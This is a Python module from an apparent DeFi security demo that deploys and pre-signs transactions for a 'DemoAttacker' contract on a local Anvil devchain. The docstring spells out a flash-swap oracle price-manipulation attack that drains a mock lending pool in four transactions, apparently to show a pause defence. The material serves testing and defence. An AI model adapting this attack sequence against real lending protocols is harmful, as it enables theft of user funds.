"""The demo's attacker: a flash-swap price manipulation, one drain transaction per block.

Each ``DemoAttacker.attack(flash, stake, amount)`` flash-swaps ``FLASH`` dUSD from the
dUSD/dBTC pair, buys dETH on the pool's oracle pair (its spot price jumps about ninefold),
posts ``STAKE`` dETH it bought earlier, borrows ``CHUNK`` dUSD against the inflated value,
sells the dETH back, repays the flash swap and keeps the rest. ``DRAINS`` such transactions
empty the pool's cash. The attacker stops as soon as it sees the pool paused.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from decimal import Decimal

from eth_abi.abi import encode
from eth_account import Account
from eth_utils.address import to_checksum_address

from breakglass.contracts import compile_file
from breakglass.demo.protocol import UNIT, Protocol
from breakglass.devchain import Anvil
from breakglass.errors import DevchainError
from breakglass.scenario.vault import calldata, sign_call

__all__ = ["CHUNK", "DRAINS", "FLASH", "STAKE", "Attacker"]

FLASH = 400_000 * UNIT
STAKE = 10 * UNIT
CHUNK = 110_000 * UNIT
DRAINS = 4
_ATTACK_GAS = 1_500_000


@dataclass(slots=True)
class Attacker:
    """The attacker's EOA and its contract; :meth:`prepare` deploys, :meth:`sign` pre-signs."""

    anvil: Anvil
    protocol: Protocol
    contract: str = ""
    signed: list[tuple[str, str]] = field(default_factory=list)
    """Pre-signed ``attack`` transactions: (raw hex, hash), in order."""

    def _send(self, data: str, to: str | None, nonce: int, gas: int) -> str:
        tx = {
            "type": 2,
            "chainId": self.protocol.chain_id,
            "nonce": nonce,
            "data": data,
            "value": 0,
            "gas": gas,
            "maxPriorityFeePerGas": 2 * 10**9,
            "maxFeePerGas": 30 * 10**9,
        }
        if to is not None:
            tx["to"] = to_checksum_address(to)
        signed = Account.sign_transaction(tx, self.protocol.attacker_key)
        return str(self.anvil.rpc("eth_sendRawTransaction", ["0x" + signed.raw_transaction.hex()]))

    def _nonce(self) -> int:
        return int(
            self.anvil.rpc("eth_getTransactionCount", [self.protocol.attacker, "pending"]), 16
        )

    def prepare(self) -> None:
        """Deploy ``DemoAttacker`` and approve it to take the attacker's dETH (automine on)."""
        p = self.protocol
        built = compile_file("DemoAttacker.sol")["DemoAttacker"]
        args = encode(["address"] * 5, [p.pool, p.oracle_pair, p.lender_pair, p.usd, p.eth])
        nonce = self._nonce()
        deployed = self._send(built.bytecode + args.hex(), None, nonce, 3_000_000)
        receipt = self._wait(deployed)
        self.contract = str(receipt["contractAddress"]).lower()
        approve = calldata("approve(address,uint256)", self.contract, 2**256 - 1)
        self._wait(self._send(approve, p.eth, nonce + 1, 100_000))

    def _wait(self, tx_hash: str) -> dict[str, str]:
        for _ in range(400):
            receipt = self.anvil.rpc("eth_getTransactionReceipt", [tx_hash])
            if receipt is not None:
                if receipt["status"] != "0x1":
                    raise DevchainError(f"attacker set-up transaction {tx_hash} reverted")
                return dict(receipt)
            time.sleep(0.005)
        raise DevchainError(f"attacker set-up transaction {tx_hash} was not mined")

    def sign(self) -> None:
        """Pre-sign the ``DRAINS`` attack transactions from the current nonce on."""
        nonce = self._nonce()
        data = calldata("attack(uint256,uint256,uint256)", FLASH, STAKE, CHUNK)
        self.signed = [
            sign_call(
                self.protocol.attacker_key,
                to=self.contract,
                data=data,
                nonce=nonce + i,
                chain_id=self.protocol.chain_id,
                gas=_ATTACK_GAS,
                priority_fee_gwei=Decimal(2),
                max_fee_gwei=Decimal(30),
            )
            for i in range(DRAINS)
        ]
